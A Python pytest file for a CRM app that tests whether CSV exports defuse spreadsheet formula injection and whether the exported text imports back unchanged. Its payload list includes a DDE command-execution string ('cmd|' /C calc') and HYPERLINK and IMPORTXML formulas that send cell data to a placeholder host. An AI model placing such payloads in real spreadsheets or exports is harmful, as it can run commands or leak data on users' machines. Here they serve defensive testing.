"""30: whatever a record holds, its file is safe to open in a spreadsheet, and reading it back gives the same text."""

import csv
import random
from collections.abc import Iterator
from io import StringIO
from pathlib import Path

import pytest

from crm_app.definitions.load import load_package
from crm_app.definitions.mapping import ImportMapping
from crm_app.services.exports import CsvExport, csv_stream
from crm_app.services.imports import import_files
from crm_app.services.lists import list_records
from crm_app.services.record_query import RecordQuery
from crm_app.services.records import create_records
from tests.builders import field, object_body, select_field
from tests.contracts.naughty import STRINGS
from tests.integration.api_client import Api, opened

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"x")', "SUM(A1:A9)", 'DDE("a";"b";"c")',
    'IMPORTXML("http://x.example";"//a")', "", "=", "'", '"', '""', ",", ";", "\t", "a\nb", "a\r\nb", "1", "-1",
    "x" * 40,
)  # fmt: skip
BEFORE = ("", "'", "''", " ", '"', ",", "\u00a0", "\ufeff", "\u200b")
ALPHABET = "=+-@'\"\t\r\n,;|\\ a1Z\u00e9\u202e\u2028\ufeff\uff1d\U0001f600\u0000"[:-1]


def texts() -> list[str]:
    """Every start before every body behind every character that may hide it, and a few hundred at random."""
    made = [before + start + body for before in BEFORE for start in STARTS for body in BODIES]
    chance = random.Random(30)  # noqa: S311 - a seed, so that a failure can be repeated
    soup = ["".join(chance.choices(ALPHABET, k=chance.randint(1, 12))) for _ in range(400)]
    found = dict.fromkeys((*STRINGS, *made, *soup))
    return [text for text in found if text.strip() and len(text) <= 200][:2_000]


@pytest.fixture
def api(database_url: str) -> Iterator[Api]:
    options = [{"name": "evil", "label": "=1+1"}]
    pick = {**select_field("pick", ("evil",)), "config": {"options": options}}
    bodies = [object_body(name, field("body", "long_text", label="=label"), pick) for name in ("note", "memo")]
    with opened(database_url, load_package({"objects": {body["name"]: body for body in bodies}})) as api:
        yield api


def saved(api: Api, name: str) -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []
    cursor = ""
    while cursor or not found:
        with api.crm.work() as work:
            page = list_records(work, RecordQuery(name, limit=200, cursor=cursor))
        found += [(record.values["name"], record.values["body"]) for record in page.records]
        cursor = page.next_cursor
    return sorted(found)


def test_30_no_cell_of_any_text_is_a_formula_and_all_come_back(api: Api, tmp_path: Path) -> None:
    wanted = texts()
    with api.crm.work() as work:
        for start in range(0, len(wanted), 1_000):
            part = wanted[start : start + 1_000]
            create_records(work, "note", [{"name": text, "body": text, "pick": "evil"} for text in part])
    answer = api.client().get("/api/v1/objects/note/records.csv", params={"fields": "name,body"})
    rows = list(csv.reader(StringIO(answer.text, newline="")))
    assert len(rows) == len(wanted) + 1
    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []
    (tmp_path / "note.csv").write_bytes(answer.content)
    file = {"file": "note.csv", "object": "memo", "key": ["id"], "encoding": "utf-8", "keep_blanks": True}
    body = {"format_version": 1, "name": "back", "label": "Back"}
    fields = {"name": "name", "body": "body"}
    mapping = ImportMapping.model_validate({**body, "files": [{**file, "fields": fields}]})
    with api.crm.work() as work:
        report = import_files(work, mapping, {"note.csv": tmp_path / "note.csv"})
    assert report.files[0].counts["created"] == len(wanted)
    assert saved(api, "memo") == saved(api, "note")


def test_30_labels_and_options_are_no_formulas_either(api: Api) -> None:
    api.crm.create("note", name="One", body="x", pick="evil")
    query = RecordQuery("note", fields=("name", "body", "pick"))
    pieces = csv_stream(api.crm.workspace, api.people["max"], lambda _work: CsvExport(query, is_for_people=True))
    rows = list(csv.reader(StringIO(b"".join(pieces).decode(), newline="")))
    assert rows == [["id", "Name", "'=label", "Pick"], [rows[1][0], "One", "x", "'=1+1"]]
